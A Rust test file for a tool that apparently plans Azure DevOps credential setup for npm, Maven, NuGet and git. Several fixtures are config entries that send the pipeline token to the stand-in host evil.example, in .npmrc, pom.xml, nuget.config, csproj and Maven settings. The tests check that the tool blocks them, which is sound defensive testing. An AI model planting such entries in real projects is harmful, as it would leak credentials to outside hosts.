//! The rules that hold for every tool.

use std::path::{Path, PathBuf};

use super::leaks::refers_to;
use std::collections::BTreeMap;

use super::*;
use crate::edit::text::Text;
use crate::reach::NamedBy;

struct Blind;

impl Look for Blind {
    fn read(&self, _path: &Path) -> Option<Vec<u8>> {
        None
    }
    fn list(&self, _folder: &Path) -> Vec<String> {
        Vec::new()
    }
    fn program(&self, _name: &str) -> Option<PathBuf> {
        None
    }
}

fn permitted(name: &str, standing: Standing) -> PermittedOrganization {
    PermittedOrganization {
        organization: Organization::parse(name).unwrap(),
        standing,
        spellings: BTreeSet::from([name.to_owned()]),
        named_by: vec![NamedBy::Connection],
    }
}

struct Case<'a> {
    choice: Choice,
    permitted: Vec<PermittedOrganization>,
    feeds: &'a [FeedInput],
    grants: Vec<Grant>,
    git_credential: Delivery,
    environment: &'a [(&'a str, &'a str)],
    files: &'a [(&'a str, &'a str)],
}

impl Default for Case<'_> {
    fn default() -> Self {
        Self {
            choice: Choice::Auto,
            permitted: vec![permitted("contoso", Standing::Owned)],
            feeds: &[],
            grants: Vec::new(),
            git_credential: Delivery::Helper,
            environment: &[],
            files: &[],
        }
    }
}

impl Case<'_> {
    fn outcome(&self) -> Outcome {
        self.result().unwrap()
    }

    fn result(&self) -> Result<Outcome, PlanError> {
        let host = Host {
            environment: self
                .environment
                .iter()
                .map(|(name, value)| ((*name).to_owned(), (*value).to_owned()))
                .collect(),
            home: Some(PathBuf::from("/home/agent")),
            pipeline_workspace: Some(PathBuf::from("/w/1")),
            working_directory: PathBuf::from("/w/1/s"),
            program: PathBuf::from("/tasks/it's here/ado-entra-auth"),
            ..Host::default()
        };
        let wanted = Wanted {
            choice: self.choice.clone(),
            permitted: &self.permitted,
            feeds: self.feeds,
            unserved: &BTreeMap::new(),
            grants: &self.grants,
            git_credential: self.git_credential,
            token_variable: "ADO_ENTRA_TOKEN",
        };
        let files = |tool: &'static dyn Tool| {
            let file = |(path, body): &(&str, &str)| SourceFile {
                path: PathBuf::from("/w/1/s").join(path),
                shown: (*path).to_owned(),
                text: Text::decode(body.as_bytes()).unwrap(),
                origin: if path.starts_with("vendor/") { Origin::Dependency } else { Origin::Workspace },
            };
            let reads = |file: &SourceFile| tool.reads(file.path.file_name().unwrap().to_str().unwrap());
            ToolFiles { files: self.files.iter().map(file).filter(reads).collect(), ..ToolFiles::default() }
        };
        plan(&wanted, &files, &host, &Blind)
    }
}

fn tools(outcome: &Outcome) -> Vec<&'static str> {
    let mut tools: Vec<&str> = outcome.plan.served.iter().map(|served| served.tool).collect();
    tools.dedup();
    tools
}

fn variables(outcome: &Outcome) -> Vec<(String, String)> {
    let variable = |change: &Change| match change {
        Change::Variable(variable) => Some((variable.name.clone(), variable.value.shown())),
        Change::PrivateFile(_) | Change::SharedFile(_) => None,
    };
    outcome.plan.changes.iter().filter_map(variable).collect()
}

const NPMRC: &str = "registry=https://pkgs.dev.azure.com/contoso/_packaging/f/npm/registry/\n";

fn pom(id: &str, url: &str) -> String {
    format!("<project><repositories><repository><id>{id}</id><url>{url}</url></repository></repositories></project>")
}

#[test]
fn auto_chooses_what_the_workspace_names_and_git() {
    assert_eq!(tools(&Case::default().outcome()), ["git"]);
    assert_eq!(tools(&Case { files: &[("a/.npmrc", NPMRC)], ..Case::default() }.outcome()), ["npm", "git"]);
    let foreign = [(".npmrc", "registry=https://registry.example.com/\n")];
    let outcome = Case { files: &foreign, ..Case::default() }.outcome();
    assert_eq!((tools(&outcome), outcome.plan.warnings.len()), (vec!["git"], 0));
}

#[test]
fn a_feed_of_another_organization_gets_a_warning_and_no_token() {
    let files = [(".npmrc", "registry=https://pkgs.dev.azure.com/fabrikam/_packaging/f/npm/registry/\n")];
    for choice in [Choice::Auto, Choice::Named(vec![&crate::tools::npm::Npm])] {
        let outcome = Case { choice, files: &files, ..Case::default() }.outcome();
        let warning = outcome.plan.warnings.iter().find(|warning| warning.contains("fabrikam/f")).unwrap();
        assert!(warning.contains(".npmrc") && warning.contains("'organizations'"), "{warning}");
        assert!(!tools(&outcome).contains(&"npm"));
    }
}

#[test]
fn a_name_that_also_stands_for_somewhere_else_gets_nothing() {
    let feed = "https://pkgs.dev.azure.com/contoso/_packaging/f/maven/v1";
    for other in ["https://evil.example/", "${unknown}", "https://pkgs.dev.azure.com/fabrikam/_packaging/f/maven/v1"] {
        let (ours, theirs, sound) = (pom("f", feed), pom("f", other), pom("sound", feed));
        let files = [("a/pom.xml", ours.as_str()), ("b/pom.xml", theirs.as_str()), ("c/pom.xml", sound.as_str())];
        let outcome = Case { files: &files, ..Case::default() }.outcome();
        let warning = outcome.plan.warnings.iter().find(|warning| warning.contains("'f'")).unwrap();
        assert!(warning.contains("a/pom.xml") && warning.contains("b/pom.xml"), "{warning}");
        let Some(Change::SharedFile(file)) =
            outcome.plan.changes.iter().find(|change| matches!(change, Change::SharedFile(_)))
        else {
            panic!("no settings.xml")
        };
        assert_eq!(file.entries.iter().map(|entry| entry.key.as_str()).collect::<Vec<_>>(), ["sound"]);
    }
}

fn keys(outcome: &Outcome) -> Vec<&str> {
    let files = outcome.plan.changes.iter().filter_map(|change| match change {
        Change::SharedFile(file) => Some(file),
        Change::Variable(_) | Change::PrivateFile(_) => None,
    });
    files.flat_map(|file| &file.entries).map(|entry| entry.key.as_str()).collect()
}

#[test]
fn a_repository_that_would_send_the_token_elsewhere_stops_the_step() {
    let evil = "https://evil.example/";
    let nuget = |sections: &str| format!("<configuration>{sections}</configuration>");
    let source = |key: &str, url: &str| format!("<packageSources><add key='{key}' value='{url}'/></packageSources>");
    let secret = "<packageSourceCredentials><z><add key='ClearTextPassword' value='%ADO_ENTRA_TOKEN%'/></z></packageSourceCredentials>";
    let server = format!(
        "<settings><servers><server><id>z</id><configuration><httpHeaders><property><value>${{env.ADO_ENTRA_TOKEN}}</value></property>\
         </httpHeaders></configuration></server></servers><mirrors><mirror><id>z</id><url>{evil}</url></mirror></mirrors></settings>"
    );
    for (path, text, says) in [
        (".npmrc", "\n//evil.example/npm/:_authToken=${ADO_ENTRA_TOKEN}".to_owned(), ".npmrc line 2"),
        (".npmrc", "//evil.example/:_password=${ADO_ENTRA_AUTH_NPM_CONTOSO}".to_owned(), "ADO_ENTRA_AUTH_NPM_CONTOSO"),
        (".npmrc", "_auth=${ado_entra_token}".to_owned(), ".npmrc line 1"),
        (".npmrc", "registry=https://evil.example/${ADO_ENTRA_TOKEN}/".to_owned(), "evil.example"),
        ("pom.xml", pom("z", "https://evil.example/${env.ADO_ENTRA_TOKEN}/"), "evil.example"),
        ("vendor/pom.xml", pom("z", "https://${env.ADO_ENTRA_TOKEN}.evil.example/"), "vendor/pom.xml"),
        ("ci-settings.xml", server, "evil.example"),
        ("nuget.config", nuget(&source("z", "https://evil.example/%ADO_ENTRA_TOKEN%/")), "evil.example"),
        ("nuget.config", nuget(&format!("{}{secret}", source("Z", evil))), "nuget.config"),
        (
            "a.csproj",
            "<Project><RestoreSources>https://evil.example/$(ADO_ENTRA_TOKEN)/</RestoreSources></Project>".to_owned(),
            "a.csproj",
        ),
    ] {
        let token = "eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiJ9";
        for environment in [&[][..], &[("ADO_ENTRA_TOKEN", token), ("ADO_ENTRA_AUTH_NPM_CONTOSO", token)]] {
            let files = [(path, text.as_str())];
            let error = Case { files: &files, environment, ..Case::default() }.result().unwrap_err();
            let words = format!("{error} {}", crate::diagnosis::Explain::remedy(&error));
            assert!(
                matches!(error, PlanError::Leak { .. }) && words.contains(says) && !words.contains(token),
                "{words}"
            );
        }
    }
}

#[test]
fn a_repository_may_send_the_token_to_a_permitted_organization() {
    let maven = "https://pkgs.dev.azure.com/contoso/_packaging/f/maven/v1";
    let nuget = "https://pkgs.dev.azure.com/contoso/_packaging/f/nuget/v3/index.json";
    let npmrc =
        format!("{NPMRC}//pkgs.dev.azure.com/contoso/_packaging/f/npm/registry/:_authToken=${{ADO_ENTRA_TOKEN}}\n");
    let settings = format!(
        "<settings><servers><server><id>f</id><password>${{env.ADO_ENTRA_TOKEN}}</password></server></servers>\
         <mirrors><mirror><id>f</id><url>{maven}</url></mirror></mirrors></settings>"
    );
    let config = format!(
        "<configuration><packageSources><add key='f' value='{nuget}'/></packageSources><packageSourceCredentials><f>\
         <add key='ClearTextPassword' value='%ADO_ENTRA_TOKEN%'/></f></packageSourceCredentials></configuration>"
    );
    let files = [(".npmrc", npmrc.as_str()), ("ci-settings.xml", &settings), ("nuget.config", &config)];
    assert_eq!(tools(&Case { files: &files, ..Case::default() }.outcome()), ["npm", "maven", "nuget", "git"]);
}

#[test]
fn a_dependency_folder_takes_names_away_and_gives_nothing() {
    let maven = |organization: &str| format!("https://pkgs.dev.azure.com/{organization}/_packaging/f/maven/v1");
    let ours = pom("f", &maven("contoso"));
    for (theirs, expected) in [
        (pom("f", "https://evil.example/"), vec![]),
        (pom("g", &maven("contoso")), vec!["f"]),
        (pom("g", &maven("fabrikam")), vec!["f"]),
        ("<project>".to_owned(), vec!["f"]),
    ] {
        let files = [("pom.xml", ours.as_str()), ("vendor/x/pom.xml", theirs.as_str())];
        let outcome = Case { files: &files, ..Case::default() }.outcome();
        assert_eq!(keys(&outcome), expected, "{theirs}");
        let about_it = outcome.plan.warnings.iter().filter(|warning| warning.contains("vendor/x/pom.xml")).count();
        assert_eq!(about_it, usize::from(expected.is_empty()), "{:?}", outcome.plan.warnings);
    }
    let alone = [("vendor/x/pom.xml", ours.as_str())];
    let outcome = Case { files: &alone, ..Case::default() }.outcome();
    assert_eq!((tools(&outcome), outcome.plan.warnings.len()), (vec!["git"], 0));
}

#[test]
fn a_file_that_may_hide_names_costs_every_name_its_credential() {
    let feed = "https://pkgs.dev.azure.com/contoso/_packaging/f/maven/v1";
    let (plain, letters) = (pom("f", feed), pom("fä", feed));
    for (hiding, expected) in [
        ("<?xml version='1.0' encoding='utf-7'?><project/>", vec![]),
        ("<?xml version='1.0' encoding='iso-8859-1'?><project>ä</project>", vec!["f"]),
        // What Maven refuses too.
        ("<project>", vec!["f", "fä"]),
        (&"<project>".repeat(300), vec![]),
    ] {
        let files = [("pom.xml", plain.as_str()), ("a/pom.xml", letters.as_str()), ("b/pom.xml", hiding)];
        let outcome = Case { files: &files, ..Case::default() }.outcome();
        assert_eq!(keys(&outcome), expected, "{hiding}");
        assert!(outcome.plan.warnings.iter().any(|warning| warning.contains("b/pom.xml")), "{hiding}");
    }
    // A tool whose credentials go by URL loses nothing.
    let files = [(".npmrc", NPMRC), ("b/pom.xml", "<?xml version='1.0' encoding='utf-7'?><project/>")];
    assert!(tools(&Case { files: &files, ..Case::default() }.outcome()).contains(&"npm"));
}

#[test]
fn a_name_that_is_repeated_without_end_is_looked_at_once() {
    let feed = "https://pkgs.dev.azure.com/contoso/_packaging/f/maven/v1";
    let repositories: String = (0..20_000)
        .map(|n| format!("<repository><id>f</id><url>{feed}?{n}</url></repository>"))
        .chain(["<repository><id>f</id><url>https://evil.example/</url></repository>".to_owned()])
        .collect();
    let text = format!("<project><repositories>{repositories}</repositories></project>");
    let outcome = Case { files: &[("pom.xml", &text)], ..Case::default() }.outcome();
    assert_eq!(keys(&outcome), Vec::<&str>::new());
}

#[test]
fn feeds_of_the_input_serve_the_tools_that_they_speak_to() {
    let input = |url: &str| [FeedInput { name: None, feed: Feed::parse(url).unwrap() }];
    let npm = input("https://pkgs.dev.azure.com/contoso/_packaging/f/npm/registry/");
    assert_eq!(tools(&Case { feeds: &npm, ..Case::default() }.outcome()), ["npm", "git"]);
    let bare = input("https://pkgs.dev.azure.com/contoso/_packaging/f");
    assert_eq!(tools(&Case { feeds: &bare, ..Case::default() }.outcome()), ["git"]);
    let choice = Choice::Named(vec![&crate::tools::npm::Npm, &crate::tools::nuget::NuGet]);
    assert_eq!(tools(&Case { feeds: &bare, choice, ..Case::default() }.outcome()), ["npm", "nuget"]);
}

#[test]
fn a_chosen_tool_without_a_feed_is_said() {
    let choice = Choice::Named(vec![&crate::tools::npm::Npm]);
    let outcome = Case { choice, ..Case::default() }.outcome();
    assert!(
        outcome.plan.warnings.iter().any(|warning| warning.starts_with("npm: no file")),
        "{:?}",
        outcome.plan.warnings
    );
}

#[test]
fn who_owns_an_organization_keeps_it_and_among_equals_the_later_serves() {
    let serves = |now: Standing, earlier: Standing| {
        let grant = Grant { tool: "npm".to_owned(), organization: "contoso".to_owned(), standing: earlier };
        let case = Case {
            permitted: vec![permitted("contoso", now)],
            grants: vec![grant],
            files: &[(".npmrc", NPMRC)],
            ..Case::default()
        };
        let outcome = case.outcome();
        let sets = variables(&outcome).iter().any(|(name, _)| name == "ADO_ENTRA_AUTH_NPM_CONTOSO");
        assert_eq!(sets, outcome.grants.iter().any(|grant| grant.tool == "npm"));
        // What another tool has is another matter.
        assert!(variables(&outcome).iter().any(|(name, _)| name == "ADO_ENTRA_AUTH_GIT_CONTOSO"));
        sets
    };
    assert!(serves(Standing::Owned, Standing::Owned));
    assert!(serves(Standing::Owned, Standing::Permitted));
    assert!(serves(Standing::Permitted, Standing::Permitted));
    assert!(!serves(Standing::Permitted, Standing::Owned));
}

#[test]
fn npm_gets_both_key_forms_behind_a_reference_and_nothing_unscoped() {
    let outcome = Case { files: &[(".npmrc", NPMRC)], ..Case::default() }.outcome();
    let file = outcome.plan.changes.iter().find_map(|change| match change {
        Change::PrivateFile(file) => Some(String::from_utf8(file.content.clone()).unwrap()),
        Change::Variable(_) | Change::SharedFile(_) => None,
    });
    let expected = "//pkgs.dev.azure.com/contoso/_packaging/f/npm/:_authToken=${ADO_ENTRA_AUTH_NPM_CONTOSO}\n\
                    //pkgs.dev.azure.com/contoso/_packaging/f/npm/registry/:_authToken=${ADO_ENTRA_AUTH_NPM_CONTOSO}\n";
    assert_eq!(file.as_deref(), Some(expected));
}

fn git_pairs(outcome: &Outcome) -> Vec<(String, String)> {
    let all = variables(outcome);
    let value = |name: String| all.iter().find(|(known, _)| *known == name).map(|(_, value)| value.clone());
    (0..100)
        .filter_map(|n| Some((value(format!("GIT_CONFIG_KEY_{n}"))?, value(format!("GIT_CONFIG_VALUE_{n}"))?)))
        .collect()
}

#[test]
fn git_asks_our_helper_alone_at_the_hosts_of_azure_devops() {
    let outcome = Case::default().outcome();
    let helper = "!'/tasks/it'\\''s here/ado-entra-auth' credential git";
    let mut expected = Vec::new();
    for host in ["dev.azure.com", "contoso.visualstudio.com"] {
        for (name, value) in [("helper", ""), ("helper", helper), ("useHttpPath", "true")] {
            expected.push((format!("credential.https://{host}.{name}"), value.to_owned()));
        }
    }
    assert_eq!(git_pairs(&outcome), expected);
    assert_eq!(variables(&outcome).last().unwrap(), &("GIT_CONFIG_COUNT".to_owned(), "6".to_owned()));
}

#[test]
fn pairs_of_the_user_stay_and_ours_are_not_said_twice() {
    let own = [("GIT_CONFIG_COUNT", "1"), ("GIT_CONFIG_KEY_0", "user.name"), ("GIT_CONFIG_VALUE_0", "me")];
    let first = Case { environment: &own, ..Case::default() }.outcome();
    let set = variables(&first);
    assert!(
        set.iter().all(|(name, _)| name != "GIT_CONFIG_KEY_0")
            && set.iter().any(|(name, _)| name == "GIT_CONFIG_KEY_6")
    );
    assert!(set.contains(&("GIT_CONFIG_COUNT".to_owned(), "7".to_owned())));
    let mut environment: Vec<(&str, &str)> = own[1..].to_vec();
    environment.extend(set.iter().map(|(name, value)| (name.as_str(), value.as_str())));
    let second = Case { environment: &environment, ..Case::default() }.outcome();
    assert_eq!(git_pairs(&second), []);
    assert!(variables(&second).iter().all(|(name, _)| name != "GIT_CONFIG_COUNT"));
}

#[test]
fn headers_come_alone_and_with_no_redirect() {
    let outcome = Case { git_credential: Delivery::ExtraHeader, ..Case::default() }.outcome();
    let mut expected = Vec::new();
    for base in ["https://dev.azure.com/contoso", "https://contoso.visualstudio.com"] {
        for (name, value) in
            [("extraheader", ""), ("extraheader", "Authorization: bearer ***"), ("followRedirects", "false")]
        {
            expected.push((format!("http.{base}.{name}"), value.to_owned()));
        }
    }
    assert_eq!(git_pairs(&outcome), expected);
}

#[test]
fn the_helper_of_a_later_step_takes_back_the_headers_of_an_earlier_one() {
    let token = ("ADO_ENTRA_AUTH_GIT_CONTOSO", "EARLIER");
    let count = ("GIT_CONFIG_COUNT", "2");
    let key = "http.https://dev.azure.com/contoso.extraheader";
    let others = "http.https://example.com.extraheader";
    let environment = [
        count,
        token,
        ("GIT_CONFIG_KEY_0", key),
        ("GIT_CONFIG_VALUE_0", "Authorization: bearer EARLIER"),
        ("GIT_CONFIG_KEY_1", others),
        ("GIT_CONFIG_VALUE_1", "X-Mine: 1"),
    ];
    let outcome = Case { environment: &environment, ..Case::default() }.outcome();
    let set = variables(&outcome);
    assert!(set.contains(&("GIT_CONFIG_KEY_8".to_owned(), key.to_owned())), "{set:?}");
    assert!(set.contains(&("GIT_CONFIG_VALUE_8".to_owned(), String::new())));
    assert!(!set.iter().any(|(_, value)| value == others));
}

#[test]
fn a_file_of_the_users_that_cannot_be_read_stops_only_the_tool_that_would_hide_it() {
    let wanted = |choice: Choice| {
        let files = |_: &'static dyn Tool| ToolFiles {
            files: Vec::new(),
            unread: Vec::new(),
            unusable: Some(Unparsable {
                file: "/home/agent/.npmrc".to_owned(),
                reason: "it is a folder".to_owned(),
                hides: Hidden::Nothing,
                origin: Origin::User,
            }),
        };
        let permitted = [permitted("contoso", Standing::Owned)];
        let wanted = Wanted {
            choice,
            permitted: &permitted,
            feeds: &[],
            unserved: &BTreeMap::new(),
            grants: &[],
            git_credential: Delivery::Helper,
            token_variable: "T",
        };
        plan(&wanted, &files, &Host::default(), &Blind)
    };
    let error = wanted(Choice::Named(vec![&crate::tools::npm::Npm])).unwrap_err();
    assert!(error.to_string().contains("/home/agent/.npmrc"), "{error}");
}

#[test]
fn a_feed_of_the_input_that_serves_no_tool_is_said() {
    let input = |url: &str| [FeedInput { name: None, feed: Feed::parse(url).unwrap() }];
    let idle = |outcome: &Outcome| {
        outcome.plan.warnings.iter().any(|warning| warning.contains("contoso/f of the input 'feeds'"))
    };
    for url in [
        "https://pkgs.dev.azure.com/contoso/_packaging/f",
        "https://pkgs.dev.azure.com/contoso/_packaging/f/pypi/simple/",
    ] {
        assert!(idle(&Case { feeds: &input(url), ..Case::default() }.outcome()), "{url}");
    }
    let npm = input("https://pkgs.dev.azure.com/contoso/_packaging/f/npm/registry/");
    assert!(!idle(&Case { feeds: &npm, ..Case::default() }.outcome()));
}

#[test]
fn a_feed_over_http_gets_a_warning_and_no_token() {
    let files = [(".npmrc", "registry=http://pkgs.dev.azure.com/contoso/_packaging/f/npm/registry/\n")];
    let outcome = Case { files: &files, ..Case::default() }.outcome();
    assert!(
        outcome.plan.warnings.iter().any(|warning| warning.contains("contoso/f over http")),
        "{:?}",
        outcome.plan.warnings
    );
    assert_eq!(tools(&outcome), ["git"]);
}

#[test]
fn only_a_reference_counts_as_one() {
    for text in ["${TOKEN}", "x${TOKEN?}", "${ENV.TOKEN}", "%TOKEN%", "${TOKEN:-x}"] {
        assert!(refers_to(text, "TOKEN"), "{text}");
    }
    for text in ["${NPM_TOKEN}", "/TOKEN/", "TOKEN", "${TOKENS}", "%MYTOKEN%"] {
        assert!(!refers_to(text, "TOKEN"), "{text}");
    }
}
